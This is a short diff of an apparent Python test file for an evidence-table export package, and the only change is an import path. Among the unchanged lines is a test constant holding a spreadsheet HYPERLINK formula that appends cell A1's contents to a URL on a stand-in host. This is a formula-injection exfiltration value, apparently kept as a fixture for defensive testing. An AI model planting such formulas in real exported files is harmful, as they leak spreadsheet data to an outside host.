@@ -10,7 +10,7 @@ import polars
 
 from evidence.answer.machines import SeenMachine
 from evidence.answer.package.tables import COUNTED, write_tables
-from evidence.store import Case
+from evidence.case.case import Case
 from tests.evidence.answer.conftest import Builder
 
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'
